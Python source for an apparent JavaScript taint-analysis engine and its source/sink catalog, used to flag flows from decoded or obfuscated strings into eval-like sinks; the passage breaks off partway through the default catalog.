"""The interprocedural taint engine: a monotone framework with summaries.

Two nested worklists:

* the **outer** worklist holds functions (the top-level program is a
  pseudo-function).  A function is (re)analyzed when an environment fact
  it reads changes, at most ``1 + context_depth`` times — the bounded
  context depth;
* the **inner** worklist is a flow-sensitive forward fixpoint over the
  function's own statement CFG (:func:`repro.dataflow.build_function_cfg`),
  with IN states joined from predecessor OUT states.

Facts cross function boundaries through a shared flow-insensitive
environment keyed by ``("b", id(binding))`` for declared names,
``("ret", id(fn))`` for return summaries, and ``("g", name)`` for
implicit globals — this is how args→params, return→call-site, and
outer-scope writes propagate.

Termination: the lattice caps (witness length, taints per label) bound
every fact, the context depth bounds outer re-analysis, and an explicit
transfer budget backstops the pruned join's loss of strict monotonicity
(DESIGN.md §13).  :func:`run_taint` additionally catches everything and
degrades to a partial result — the engine **never raises**.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field

from repro.dataflow import build_function_cfg
from repro.jsparser import ast_nodes as ast
from repro.jsparser.scope import Binding, ScopeAnalyzer, analyze_scopes
from repro.jsparser.visitor import walk

from ..catalog import _GLOBAL_ALIASES, callee_name
from .callgraph import CallGraph, _declarator_binding, build_call_graph
from .catalog import SinkSpec, TaintCatalog, default_catalog, is_string_array, literal_source
from .lattice import EMPTY, Taint, TaintSet, extend, fresh, join
from .witness import MAX_WITNESS_HOPS, Hop

#: Environment/state key: ("b", id(binding)) | ("ret", id(fn)) | ("g", name).
FactKey = tuple[str, object]

State = dict[FactKey, TaintSet]

#: Objects whose computed-member reads/writes count as dynamic dispatch.
_DISPATCH_ROOTS = frozenset(_GLOBAL_ALIASES) | {"document"}


@dataclass(frozen=True)
class Flow:
    """One tainted source→sink reach, with its full witness."""

    kind: str  # sink kind from the catalog ("eval", "timer", …)
    sink_name: str
    line: int
    col: int
    taint: Taint  # hops end with the terminal sink hop

    @property
    def label(self) -> str:
        return self.taint.label

    @property
    def hops(self) -> tuple[Hop, ...]:
        return self.taint.hops


@dataclass
class TaintResult:
    """What one engine run produced (possibly degraded but never raised)."""

    flows: list[Flow] = field(default_factory=list)
    transfers: int = 0
    n_functions: int = 0
    n_call_edges: int = 0
    budget_exhausted: bool = False
    degraded: bool = False
    error: str = ""


class TaintEngine:
    def __init__(
        self,
        program: ast.Program,
        catalog: TaintCatalog | None = None,
        context_depth: int = 4,
        max_transfers: int = 20_000,
    ) -> None:
        self.program = program
        self.catalog = catalog if catalog is not None else default_catalog()
        self.context_depth = context_depth
        self.max_transfers = max_transfers

        self.scopes: ScopeAnalyzer = analyze_scopes(program)
        self.callgraph: CallGraph = build_call_graph(program, self.scopes)

        # Catalog lookups, precomputed once.
        self._source_calls = self.catalog.source_calls()
        self._source_members = self.catalog.source_members()
        self._call_sinks = self.catalog.call_sinks()
        self._assign_sinks = self.catalog.assign_sinks()
        self._dispatch_sink = self.catalog.dispatch_sink()
        self._sanitizer_calls = self.catalog.sanitizer_calls()
        self._sanitizer_members = self.catalog.sanitizer_members()
        self._propagator_methods = self.catalog.propagator_methods()
        self._string_array_spec = self.catalog.string_array_source()

        self.env: dict[FactKey, TaintSet] = {}
        self.flows: dict[tuple[int, str, str], Flow] = {}
        self.transfers = 0
        self.budget_exhausted = False

        self._readers: dict[FactKey, set[int]] = {}
        self._fn_by_id: dict[int, ast.Node] = {id(program): program}
        for fn in self.callgraph.functions:
            self._fn_by_id[id(fn)] = fn
        self._changed_keys: set[FactKey] = set()
        self._current_fn: ast.Node = program

    # ------------------------------------------------------------------ run

    def run(self) -> TaintResult:
        self._seed_string_arrays()
        units: list[ast.Node] = [self.program, *self.callgraph.functions]
        visits: dict[int, int] = {}
        queue: deque[ast.Node] = deque(units)
        queued: set[int] = {id(u) for u in units}
        bound = 1 + max(0, self.context_depth)

        while queue:
            fn = queue.popleft()
            queued.discard(id(fn))
            if visits.get(id(fn), 0) >= bound:
                continue  # bounded context depth
            visits[id(fn)] = visits.get(id(fn), 0) + 1
            self._changed_keys = set()
            self._analyze_unit(fn)
            if self.budget_exhausted:
                break
            for key in self._changed_keys:
                for reader_id in self._readers.get(key, ()):
                    reader = self._fn_by_id.get(reader_id)
                    if reader is None or id(reader) in queued:
                        continue
                    if visits.get(id(reader), 0) >= bound:
                        continue
                    queue.append(reader)
                    queued.add(id(reader))

        result = TaintResult(
            flows=sorted(
                self.flows.values(), key=lambda f: (f.line, f.col, f.kind, f.label, f.hops)
            ),
            transfers=self.transfers,
            n_functions=len(self.callgraph.functions),
            n_call_edges=self.callgraph.n_edges,
            budget_exhausted=self.budget_exhausted,
        )
        return result

    # ----------------------------------------------------------- seeding

    def _seed_string_arrays(self) -> None:
        spec = self.catalog.string_array_source()
        if spec is None:
            return
        for node in walk(self.program):
            if node.type != "VariableDeclarator" or node.init is None:
                continue
            if node.id.type != "Identifier" or not is_string_array(node.init):
                continue
            binding = _declarator_binding(node, self.scopes)
            if binding is None:
                continue
            line, col = node.loc
            self._env_join(("b", id(binding)), frozenset({fresh(spec.label, line, col)}))

    # ------------------------------------------------------ per-function

    def _analyze_unit(self, fn: ast.Node) -> None:
        self._current_fn = fn
        if fn.type == "Program":
            body = fn.body
        else:
            fn_body = fn.body
            if fn_body.type != "BlockStatement":  # arrow expression body
                taints = self._eval(fn_body, {})
                if taints:
                    line, col = fn_body.loc
                    self._env_join(
                        ("ret", id(fn)), extend(taints, Hop(line, col, "return"))
                    )
                return
            body = fn_body.body

        cfg = build_function_cfg(body)
        out_states: dict[int, State] = {}
        work: deque[int] = deque(cfg.node_of.keys())
        in_work: set[int] = set(work)

        while work:
            if self.transfers >= self.max_transfers:
                self.budget_exhausted = True
                return
            key = work.popleft()
            in_work.discard(key)
            stmt = cfg.node_of[key]
            in_state: State = {}
            for pred in cfg.graph.predecessors(key):
                pred_out = out_states.get(pred)
                if not pred_out:
                    continue
                for fact, taints in pred_out.items():
                    in_state[fact] = join(in_state.get(fact, EMPTY), taints)
            out_state = self._transfer(stmt, in_state)
            self.transfers += 1
            if out_states.get(key) != out_state:
                out_states[key] = out_state
                for successor in cfg.graph.successors(key):
                    if successor not in in_work:
                        work.append(successor)
                        in_work.add(successor)

    # ---------------------------------------------------------- transfer

    def _transfer(self, stmt: ast.Node, state: State) -> State:
        type_ = stmt.type
        if type_ == "ExpressionStatement":
            self._eval(stmt.expression, state)
        elif type_ == "VariableDeclaration":
            for declarator in stmt.declarations:
                if declarator.init is None:
                    continue
                taints = self._eval(declarator.init, state)
                if declarator.id.type == "Identifier":
                    binding = _declarator_binding(declarator, self.scopes)
                    line, col = declarator.loc
                    self._write_binding(
                        binding,
                        declarator.id.name,
                        extend(taints, Hop(line, col, f"assign:{declarator.id.name}")),
                        state,
                    )
        elif type_ == "ReturnStatement":
            if stmt.argument is not None and self._current_fn.type != "Program":
                taints = self._eval(stmt.argument, state)
                if taints:
                    line, col = stmt.loc
                    self._env_join(
                        ("ret", id(self._current_fn)),
                        extend(taints, Hop(line, col, "return")),
                    )
        elif type_ in ("IfStatement", "WhileStatement", "DoWhileStatement"):
            self._eval(stmt.test, state)
        elif type_ == "SwitchStatement":
            self._eval(stmt.discriminant, state)
        elif type_ == "WithStatement":
            self._eval(stmt.object, state)
        elif type_ == "ForStatement":
            if stmt.init is not None:
                if stmt.init.type == "VariableDeclaration":
                    self._transfer(stmt.init, state)
                else:
                    self._eval(stmt.init, state)
            if stmt.test is not None:
                self._eval(stmt.test, state)
            if stmt.update is not None:
                self._eval(stmt.update, state)
        elif type_ in ("ForInStatement", "ForOfStatement"):
            taints = self._eval(stmt.right, state)
            line, col = stmt.loc
            element = extend(taints, Hop(line, col, "element"))
            target = stmt.left
            if target.type == "VariableDeclaration" and target.declarations:
                declarator = target.declarations[0]
                if declarator.id.type == "Identifier":
                    binding = _declarator_binding(declarator, self.scopes)
                    self._write_binding(binding, declarator.id.name, element, state)
            elif target.type == "Identifier":
                self._write_binding(
                    self.scopes.binding_of_ref.get(id(target)), target.name, element, state
                )
        elif type_ == "ThrowStatement":
            if stmt.argument is not None:
                self._eval(stmt.argument, state)
        return state

    # -------------------------------------------------------- environment

    def _env_join(self, key: FactKey, taints: TaintSet) -> None:
        if not taints:
            return
        old = self.env.get(key, EMPTY)
        new = join(old, taints)
        if new != old:
            self.env[key] = new
            self._changed_keys.add(key)

    def _note_read(self, key: FactKey) -> None:
        self._readers.setdefault(key, set()).add(id(self._current_fn))

    def _binding_owner(self, binding: Binding) -> ast.Node:
        return binding.scope.hoist_target().node

    def _write_binding(
        self, binding: Binding | None, name: str, taints: TaintSet, state: State
    ) -> None:
        """Strong update in the local state for names this function owns;
        every write also weakly joins the environment so other functions
        observe outer-scope/global mutation."""
        if binding is None:
            self._env_join(("g", name), taints)
            return
        key: FactKey = ("b", id(binding))
        if self._binding_owner(binding) is self._current_fn:
            state[key] = taints
        self._env_join(key, taints)

    def _read_name(self, node: ast.Node, state: State) -> TaintSet:
        binding = self.scopes.binding_of_ref.get(id(node))
        if binding is not None:
            key: FactKey = ("b", id(binding))
            if key in state:
                return state[key]
            self._note_read(key)
            return self.env.get(key, EMPTY)
        key = ("g", node.name)
        self._note_read(key)
        return self.env.get(key, EMPTY)

    # --------------------------------------------------------------- sinks

    def _record_flow(self, spec: SinkSpec, node: ast.Node, sink_name: str, taints: TaintSet) -> None:
        line, col = node.loc
        sink_hop = Hop(line, col, f"sink:{spec.kind}")
        for taint in taints:
            hops = taint.hops
            if len(hops) >= MAX_WITNESS_HOPS:  # always keep room for the sink hop
                hops = hops[: MAX_WITNESS_HOPS - 1]
            witness = Taint(taint.label, hops + (sink_hop,))
            flow_key = (id(node), spec.kind, taint.label)
            existing = self.flows.get(flow_key)
            if existing is None or len(witness.hops) < len(existing.taint.hops):
                self.flows[flow_key] = Flow(spec.kind, sink_name, line, col, witness)

    def _dispatch_root(self, node: ast.Node) -> str | None:
        """The global-alias identifier a member chain bottoms out at, if
        it is an actual global (unresolved or the well-known aliases)."""
        current = node
        while current.type == "MemberExpression":
            current = current.object
        if current.type != "Identifier" or current.name not in _DISPATCH_ROOTS:
            return None
        if self.scopes.binding_of_ref.get(id(current)) is not None:
            return None  # shadowed locally; not the global object
        return str(current.name)

    # ---------------------------------------------------------- expressions

    def _eval(self, node: ast.Node, state: State) -> TaintSet:
        type_ = node.type

        if type_ in ("Literal", "TemplateLiteral"):
            spec = literal_source(self.catalog, node)
            if spec is not None:
                line, col = node.loc
                return frozenset({fresh(spec.label, line, col)})
            return EMPTY
        if type_ == "Identifier":
            return self._read_name(node, state)
        if type_ in ast.FUNCTION_TYPES or type_ == "ThisExpression":
            return EMPTY
        if type_ == "ArrayExpression":
            taints = join(*(self._eval(e, state) for e in node.elements if e is not None))
            # A string-array table is itself a source (the obfuscator.io
            # idiom); without this, the declarator's strong update would
            # mask the env seed inside the declaring function.
            if self._string_array_spec is not None and is_string_array(node):
                line, col = node.loc
                taints = join(taints, frozenset({fresh(self._string_array_spec.label, line, col)}))
            return taints
        if type_ == "ObjectExpression":
            return join(
                *(
                    self._eval(prop.value, state)
                    for prop in node.properties
                    if getattr(prop, "value", None) is not None
                )
            )
        if type_ in ("UnaryExpression", "UpdateExpression"):
            self._eval(node.argument, state)
            return EMPTY  # coercion to number/boolean/type-name sanitizes
        if type_ == "BinaryExpression":
            left = self._eval(node.left, state)
            right = self._eval(node.right, state)
            if node.operator == "+":
                line, col = node.loc
                return extend(join(left, right), Hop(line, col, "concat"))
            return EMPTY  # arithmetic/comparison results are not strings
        if type_ == "LogicalExpression":
            return join(self._eval(node.left, state), self._eval(node.right, state))
        if type_ == "ConditionalExpression":
            self._eval(node.test, state)
            return join(self._eval(node.consequent, state), self._eval(node.alternate, state))
        if type_ == "SequenceExpression":
            result = EMPTY
            for expression in node.expressions:
                result = self._eval(expression, state)
            return result
        if type_ == "AssignmentExpression":
            return self._eval_assignment(node, state)
        if type_ in ("CallExpression", "NewExpression"):
            return self._eval_call(node, state)
        if type_ == "MemberExpression":
            return self._eval_member(node, state)
        if type_ == "SpreadElement":
            return self._eval(node.argument, state)
        # Unknown expression kinds: conservative join over children.
        return join(*(self._eval(child, state) for child in node.children()))

    def _static_prop_name(self, node: ast.Node) -> str | None:
        prop = node.property
        if not node.computed and prop.type == "Identifier":
            return str(prop.name)
        if node.computed and prop.type == "Literal" and isinstance(prop.value, str):
            return str(prop.value)
        return None

    def _eval_member(self, node: ast.Node, state: State) -> TaintSet:
        pname = self._static_prop_name(node)
        line, col = node.loc

        if pname is not None and pname in self._sanitizer_members:
            self._eval(node.object, state)
            return EMPTY

        # Member sources: full dotted name (location.href) or the bare
        # property (responseText on any receiver).
        full_name = callee_name(node)
        source = None
        if full_name is not None and full_name in self._source_members:
            source = self._source_members[full_name]
        elif pname is not None and pname in self._source_members:
            source = self._source_members[pname]
        if source is not None:
            self._eval(node.object, state)
            return frozenset({fresh(source.label, line, col)})

        object_taints = self._eval(node.object, state)
        if node.computed and pname is None:
            key_taints = self._eval(node.property, state)
            if key_taints and self._dispatch_sink is not None:
                root = self._dispatch_root(node.object)
                if root is not None:
                    self._record_flow(
                        self._dispatch_sink, node, f"{root}[…]", key_taints
                    )
            return extend(object_taints, Hop(line, col, "element"))
        return extend(object_taints, Hop(line, col, "member"))

    def _eval_assignment(self, node: ast.Node, state: State) -> TaintSet:
        taints = self._eval(node.right, state)
        line, col = node.loc
        if node.operator != "=":  # compound assignment reads the target too
            taints = extend(join(taints, self._eval(node.left, state)), Hop(line, col, "concat"))

        target = node.left
        if target.type == "Identifier":
            self._write_binding(
                self.scopes.binding_of_ref.get(id(target)),
                target.name,
                extend(taints, Hop(line, col, f"assign:{target.name}")),
                state,
            )
            return taints
        if target.type == "MemberExpression":
            pname = self._static_prop_name(target)
            if taints and pname is not None and pname in self._assign_sinks:
                self._record_flow(self._assign_sinks[pname], node, f".{pname} =", taints)
            if target.computed and pname is None:
                key_taints = self._eval(target.property, state)
                if key_taints and self._dispatch_sink is not None:
                    root = self._dispatch_root(target.object)
                    if root is not None:
                        self._record_flow(self._dispatch_sink, node, f"{root}[…] =", key_taints)
            # Field-insensitive object taint: a tainted write marks the base.
            if taints and target.object.type == "Identifier":
                self._write_binding(
                    self.scopes.binding_of_ref.get(id(target.object)),
                    target.object.name,
                    extend(taints, Hop(line, col, "field")),
                    state,
                )
        return taints

    def _eval_call(self, node: ast.Node, state: State) -> TaintSet:
        line, col = node.loc
        argument_taints = [self._eval(argument, state) for argument in node.arguments]
        callee = node.callee
        name = callee_name(callee)
        pname: str | None = None
        object_taints: TaintSet = EMPTY

        if callee.type == "MemberExpression":
            pname = self._static_prop_name(callee)
            if callee.computed and pname is None:
                # Dynamic dispatch in call position: window[key](…).
                object_taints = self._eval_member(callee, state)
            else:
                object_taints = self._eval(callee.object, state)
        elif callee.type not in ast.FUNCTION_TYPES and callee.type != "Identifier":
            self._eval(callee, state)

        if name is not None and name in self._sanitizer_calls:
            return EMPTY

        result: TaintSet = EMPTY
        if name is not None and name in self._source_calls:
            spec = self._source_calls[name]
            result = join(
                frozenset({fresh(spec.label, line, col)}),
                extend(join(*argument_taints), Hop(line, col, f"call:{name}")),
            )
        if name is not None and name in self._call_sinks:
            sink = self._call_sinks[name]
            considered = argument_taints[:1] if sink.arg_policy == "first" else argument_taints
            joined = join(*considered)
            if joined:
                self._record_flow(sink, node, name, joined)
            return result

        if pname is not None and pname in self._propagator_methods:
            result = join(
                result,
                extend(
                    join(object_taints, *argument_taints),
                    Hop(line, col, f"method:{pname}"),
                ),
            )
            return result

        targets = self.callgraph.targets(node)
        if targets:
            for target in targets:
                self._bind_arguments(target, argument_taints, line, col)
                ret_key: FactKey = ("ret", id(target))
                self._note_read(ret_key)
                result = join(
                    result,
                    extend(
                        self.env.get(ret_key, EMPTY),
                        Hop(line, col, f"call:{name or 'function'}"),
                    ),
                )
            return result
        if name is not None and name in self._source_calls:
            return result
        # Unknown callee: conservatively pass taint through to the result.
        return join(
            result,
            extend(
                join(object_taints, *argument_taints),
                Hop(line, col, f"call:{name or '?'}"),
            ),
        )

    def _bind_arguments(
        self,
        target: ast.Node,
        argument_taints: list[TaintSet],
        line: int,
        col: int,
    ) -> None:
        fn_scope = self.scopes.scope_of_node.get(id(target))
        if fn_scope is None:
            return
        params = getattr(target, "params", [])
        for index, param in enumerate(params):
            if index >= len(argument_taints):
                break
            slot = param.argument if param.type == "SpreadElement" else param
            if slot.type != "Identifier":
                continue
            binding = fn_scope.bindings.get(slot.name)
            if binding is None:
                continue
            taints = argument_taints[index]
            if not taints:
                continue
            self._env_join(
                ("b", id(binding)), extend(taints, Hop(line, col, f"arg:{slot.name}"))
            )


def run_taint(
    program: ast.Program,
    catalog: TaintCatalog | None = None,
    context_depth: int = 4,
    max_transfers: int = 20_000,
) -> TaintResult:
    """Run the engine with the never-raises contract: any internal error
    degrades to a (possibly partial) result carrying the error string."""
    try:
        engine = TaintEngine(
            program,
            catalog=catalog,
            context_depth=context_depth,
            max_transfers=max_transfers,
        )
        return engine.run()
    except RecursionError:
        return TaintResult(degraded=True, error="RecursionError: expression nesting too deep")
    except Exception as error:  # noqa: BLE001 - the never-raises contract
        return TaintResult(degraded=True, error=f"{type(error).__name__}: {error}"[:200])
