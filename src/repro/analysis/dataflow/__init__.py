"""Interprocedural taint-flow analysis for the triage tier.

Public surface: :func:`run_taint` (never raises), the
:class:`TaintEngine` it wraps, the declarative :class:`TaintCatalog`,
and the witness/lattice primitives flow rules consume.
"""

from .callgraph import CallGraph, build_call_graph
from .catalog import (
    PropagatorSpec,
    SanitizerSpec,
    SinkSpec,
    SourceSpec,
    TaintCatalog,
    default_catalog,
)
from .engine import Flow, TaintEngine, TaintResult, run_taint
from .lattice import MAX_TAINTS_PER_LABEL, Taint, TaintSet, extend, fresh, join
from .witness import MAX_WITNESS_HOPS, Hop, extend_hops, witness_dicts

__all__ = [
    "CallGraph",
    "build_call_graph",
    "PropagatorSpec",
    "SanitizerSpec",
    "SinkSpec",
    "SourceSpec",
    "TaintCatalog",
    "default_catalog",
    "Flow",
    "TaintEngine",
    "TaintResult",
    "run_taint",
    "MAX_TAINTS_PER_LABEL",
    "Taint",
    "TaintSet",
    "extend",
    "fresh",
    "join",
    "MAX_WITNESS_HOPS",
    "Hop",
    "extend_hops",
    "witness_dicts",
]
