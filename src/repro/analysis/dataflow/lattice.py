"""The taint lattice: labeled taints with witness trails, joined by union.

A dataflow fact maps program names to a :class:`TaintSet` — a frozen set
of :class:`Taint` values, each carrying its source label plus the hop
trail that explains how the value got here.  The lattice order is set
inclusion; ``join`` is union with two pruning caps that keep states
finite:

* at most :data:`MAX_TAINTS_PER_LABEL` taints per label survive a join
  (the ones with the *shortest* witnesses win — they make the clearest
  findings);
* witness trails stop growing at ``MAX_WITNESS_HOPS`` hops (the taint
  itself keeps propagating).

The caps trade a sliver of soundness for guaranteed termination: the
pruned join is no longer strictly monotone, so the engine also runs
under an explicit transfer budget (see :mod:`.engine` and DESIGN.md
§13).
"""

from __future__ import annotations

from dataclasses import dataclass

from .witness import Hop, extend_hops

#: How many distinct witnesses one label may carry through a join.
MAX_TAINTS_PER_LABEL = 3

TaintSet = frozenset["Taint"]

EMPTY: TaintSet = frozenset()


@dataclass(frozen=True, order=True)
class Taint:
    """One tainted value: its source label and the witness so far."""

    label: str
    hops: tuple[Hop, ...] = ()

    def extended(self, hop: Hop) -> "Taint":
        return Taint(self.label, extend_hops(self.hops, hop))


def fresh(label: str, line: int, col: int) -> Taint:
    """A new taint born at a source read."""
    return Taint(label, (Hop(line, col, f"source:{label}"),))


def join(*sets: TaintSet) -> TaintSet:
    """Least upper bound: union pruned to the cap per label.

    When a label exceeds :data:`MAX_TAINTS_PER_LABEL`, the taints with
    the shortest (then lexically smallest) witnesses are kept, so the
    surviving evidence is deterministic and maximally readable.
    """
    merged: set[Taint] = set()
    for s in sets:
        merged |= s
    if len(merged) <= MAX_TAINTS_PER_LABEL:
        return frozenset(merged)
    by_label: dict[str, list[Taint]] = {}
    for taint in merged:
        by_label.setdefault(taint.label, []).append(taint)
    pruned: set[Taint] = set()
    for taints in by_label.values():
        taints.sort(key=lambda t: (len(t.hops), t))
        pruned.update(taints[:MAX_TAINTS_PER_LABEL])
    return frozenset(pruned)


def extend(taints: TaintSet, hop: Hop) -> TaintSet:
    """Propagate a whole set through one hop."""
    if not taints:
        return EMPTY
    return frozenset(t.extended(hop) for t in taints)
