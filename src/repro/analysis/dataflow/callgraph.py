"""Call-graph construction for the taint engine.

Deliberately modest (DESIGN.md §13 spells out the limits): edges exist
for

* direct calls to function declarations (``function f(){} … f()``);
* calls through names bound to function expressions — declarator inits
  (``var f = function(){}``), plain assignments (``f = function(){}``),
  and named function expressions calling themselves;
* IIFEs, where the callee *is* the function expression.

Method calls (``obj.m()``), ``call``/``apply``/``bind``, constructors
resolved through prototypes, and higher-order flows are not resolved;
the engine falls back to conservative argument propagation for those.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.jsparser import ast_nodes as ast
from repro.jsparser.scope import Binding, ScopeAnalyzer
from repro.jsparser.visitor import walk


@dataclass
class CallGraph:
    """Functions plus resolved call-site → target edges.

    Keys are ``id(node)`` — stable for the lifetime of the analyzed AST,
    matching how the repo's scope/def-use layers index nodes.
    """

    functions: list[ast.Node] = field(default_factory=list)
    targets_of: dict[int, list[ast.Node]] = field(default_factory=dict)
    #: id(function node) -> call sites resolved to it (reverse edges).
    callers_of: dict[int, list[ast.Node]] = field(default_factory=dict)

    def targets(self, call: ast.Node) -> list[ast.Node]:
        return self.targets_of.get(id(call), [])

    @property
    def n_edges(self) -> int:
        return sum(len(t) for t in self.targets_of.values())


def _bound_functions(program: ast.Program, scopes: ScopeAnalyzer) -> dict[int, list[ast.Node]]:
    """Map id(Binding) -> function nodes the name may hold.

    Multiple assignments keep every candidate (a may-analysis); bindings
    also written with non-function values keep their function candidates
    — imprecise but sound for a may-reach taint.
    """
    bound: dict[int, list[ast.Node]] = {}

    def bind(binding_key: int, fn: ast.Node) -> None:
        targets = bound.setdefault(binding_key, [])
        if all(existing is not fn for existing in targets):
            targets.append(fn)

    # Function declarations and named function expressions: their binding
    # lives in the scope tree with the node as the declaration.
    for scope in scopes.global_scope.iter_scopes():
        for binding in scope.bindings.values():
            if binding.kind != "function":
                continue
            for declaration in binding.declarations:
                if declaration.type in ast.FUNCTION_TYPES:
                    bind(id(binding), declaration)

    for node in walk(program):
        if node.type == "VariableDeclarator":
            init = node.init
            if init is not None and init.type in ast.FUNCTION_TYPES and node.id.type == "Identifier":
                binding = _declarator_binding(node, scopes)
                if binding is not None:
                    bind(id(binding), init)
        elif node.type == "AssignmentExpression" and node.operator == "=":
            if node.right.type in ast.FUNCTION_TYPES and node.left.type == "Identifier":
                binding = scopes.binding_of_ref.get(id(node.left))
                if binding is not None:
                    bind(id(binding), node.right)
    return bound


def _declarator_binding(declarator: ast.Node, scopes: ScopeAnalyzer) -> Binding | None:
    """The binding a ``VariableDeclarator`` declares, via the scope tree."""
    for scope in scopes.global_scope.iter_scopes():
        binding = scope.bindings.get(declarator.id.name)
        if binding is not None and any(d is declarator for d in binding.declarations):
            return binding
    return None


def build_call_graph(program: ast.Program, scopes: ScopeAnalyzer) -> CallGraph:
    graph = CallGraph()
    graph.functions = [node for node in walk(program) if node.type in ast.FUNCTION_TYPES]
    bound = _bound_functions(program, scopes)

    for node in walk(program):
        if node.type not in ("CallExpression", "NewExpression"):
            continue
        callee = node.callee
        targets: list[ast.Node] = []
        if callee.type in ast.FUNCTION_TYPES:  # IIFE
            targets = [callee]
        elif callee.type == "Identifier":
            binding = scopes.binding_of_ref.get(id(callee))
            if binding is not None:
                targets = list(bound.get(id(binding), []))
        if targets:
            graph.targets_of[id(node)] = targets
            for fn in targets:
                graph.callers_of.setdefault(id(fn), []).append(node)
    return graph
