"""The declarative taint catalog: sources, sinks, sanitizers, propagators.

The engine itself knows nothing about ``atob`` or ``eval``; everything
behavioral lives in frozen spec dataclasses here, so adding a source or
sink is a one-line catalog edit, not an engine change.  The default
catalog covers the paper-relevant surface:

* sources: the decode family, hex-soup/high-entropy literals,
  ``location.*`` reads, XHR response members, and string-array tables
  (the obfuscator.io idiom PR 7's unpacker targets);
* sinks: the eval family, string-arg timers, ``document.write``,
  ``innerHTML``/``outerHTML``/``src`` assignment, and dynamic API
  dispatch (a tainted computed key on a global object);
* sanitizers: numeric/boolean coercions and ``.length`` reads;
* propagators: string concatenation plus the string/array method set.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.jsparser import ast_nodes as ast

from ..catalog import shannon_entropy

# ------------------------------------------------------------------- specs


@dataclass(frozen=True)
class SourceSpec:
    """Where taint is born.

    ``kind`` selects the match site: ``call`` (callee name), ``member``
    (property read), ``literal`` (string literal predicate, see
    :func:`literal_source`), or ``string-array`` (a variable bound to a
    big table of string literals).
    """

    label: str
    kind: str
    names: frozenset[str] = frozenset()
    description: str = ""


@dataclass(frozen=True)
class SinkSpec:
    """Where tainted data becomes a finding.

    ``mode`` is ``call`` (tainted argument), ``assign`` (tainted RHS of
    a named property write), or ``dispatch`` (tainted computed key on a
    global object — dynamic API resolution, the eval family's obfuscated
    cousin).  ``arg_policy`` narrows call sinks to the first argument
    (timers only execute arg 0).
    """

    kind: str
    mode: str
    names: frozenset[str] = frozenset()
    arg_policy: str = "any"
    description: str = ""


@dataclass(frozen=True)
class SanitizerSpec:
    """Operations whose result is taint-free (coercions, size reads)."""

    kind: str  # "call" | "member"
    names: frozenset[str]


@dataclass(frozen=True)
class PropagatorSpec:
    """Operations that carry taint from operands to result."""

    kind: str  # "method" | "operator"
    names: frozenset[str]


@dataclass(frozen=True)
class TaintCatalog:
    sources: tuple[SourceSpec, ...] = ()
    sinks: tuple[SinkSpec, ...] = ()
    sanitizers: tuple[SanitizerSpec, ...] = ()
    propagators: tuple[PropagatorSpec, ...] = ()

    def source_calls(self) -> dict[str, SourceSpec]:
        return {n: s for s in self.sources if s.kind == "call" for n in s.names}

    def source_members(self) -> dict[str, SourceSpec]:
        return {n: s for s in self.sources if s.kind == "member" for n in s.names}

    def literal_sources(self) -> tuple[SourceSpec, ...]:
        return tuple(s for s in self.sources if s.kind == "literal")

    def string_array_source(self) -> SourceSpec | None:
        for spec in self.sources:
            if spec.kind == "string-array":
                return spec
        return None

    def call_sinks(self) -> dict[str, SinkSpec]:
        return {n: s for s in self.sinks if s.mode == "call" for n in s.names}

    def assign_sinks(self) -> dict[str, SinkSpec]:
        return {n: s for s in self.sinks if s.mode == "assign" for n in s.names}

    def dispatch_sink(self) -> SinkSpec | None:
        for spec in self.sinks:
            if spec.mode == "dispatch":
                return spec
        return None

    def sanitizer_calls(self) -> frozenset[str]:
        out: set[str] = set()
        for spec in self.sanitizers:
            if spec.kind == "call":
                out |= spec.names
        return frozenset(out)

    def sanitizer_members(self) -> frozenset[str]:
        out: set[str] = set()
        for spec in self.sanitizers:
            if spec.kind == "member":
                out |= spec.names
        return frozenset(out)

    def propagator_methods(self) -> frozenset[str]:
        out: set[str] = set()
        for spec in self.propagators:
            if spec.kind == "method":
                out |= spec.names
        return frozenset(out)


# ------------------------------------------------------- literal predicates

#: Thresholds for the hex-soup literal source, deliberately aligned with
#: the PR 3 ``high-entropy-literal``/``escaped-string-soup`` heuristics.
HEXSOUP_MIN_LENGTH = 40
HEXSOUP_MIN_ENTROPY = 4.2
HEXSOUP_MIN_ESCAPES = 6

#: Minimum string-literal elements for an array to count as a lookup table.
STRING_ARRAY_MIN_ELEMENTS = 4


def is_hexsoup_literal(node: ast.Node) -> bool:
    """Long high-entropy literal, or one written mostly in escapes."""
    value = getattr(node, "value", None)
    if not isinstance(value, str):
        return False
    raw = getattr(node, "raw", "") or ""
    escapes = raw.count("\\x") + raw.count("\\u")
    if escapes >= HEXSOUP_MIN_ESCAPES and len(raw) >= 8 and escapes * 4 / len(raw) >= 0.4:
        return True
    if len(value) >= HEXSOUP_MIN_LENGTH and shannon_entropy(value) >= HEXSOUP_MIN_ENTROPY:
        return True
    return False


def is_string_array(node: ast.Node) -> bool:
    """An ``ArrayExpression`` that is mostly a table of string literals."""
    if node.type != "ArrayExpression":
        return False
    strings = 0
    for element in node.elements:
        if element is None:
            return False
        if element.type == "Literal" and isinstance(getattr(element, "value", None), str):
            strings += 1
        else:
            return False
    return strings >= STRING_ARRAY_MIN_ELEMENTS


def literal_source(catalog: TaintCatalog, node: ast.Node) -> SourceSpec | None:
    """Match a Literal/TemplateLiteral node against the literal sources."""
    for spec in catalog.literal_sources():
        if spec.label == "hexsoup" and is_hexsoup_literal(node):
            return spec
    return None


# ---------------------------------------------------------- default catalog


def default_catalog() -> TaintCatalog:
    return TaintCatalog(
        sources=(
            SourceSpec(
                label="decode",
                kind="call",
                names=frozenset(
                    {"atob", "unescape", "decodeURIComponent", "decodeURI", "String.fromCharCode"}
                ),
                description="string-decode call output",
            ),
            SourceSpec(
                label="hexsoup",
                kind="literal",
                description="high-entropy or escape-soup string literal",
            ),
            SourceSpec(
                label="location",
                kind="member",
                names=frozenset(
                    {
                        "location.href",
                        "location.search",
                        "location.hash",
                        "location.pathname",
                        "location.host",
                        "location.hostname",
                    }
                ),
                description="URL-controlled location read",
            ),
            SourceSpec(
                label="xhr",
                kind="member",
                names=frozenset({"responseText", "response", "responseXML"}),
                description="XHR/fetch response payload",
            ),
            SourceSpec(
                label="string-array",
                kind="string-array",
                description="string-array lookup table (obfuscator.io idiom)",
            ),
        ),
        sinks=(
            SinkSpec(
                kind="eval",
                mode="call",
                names=frozenset({"eval", "Function", "execScript"}),
                description="direct dynamic code execution",
            ),
            SinkSpec(
                kind="timer",
                mode="call",
                names=frozenset({"setTimeout", "setInterval"}),
                arg_policy="first",
                description="string-arg timer (implicit eval)",
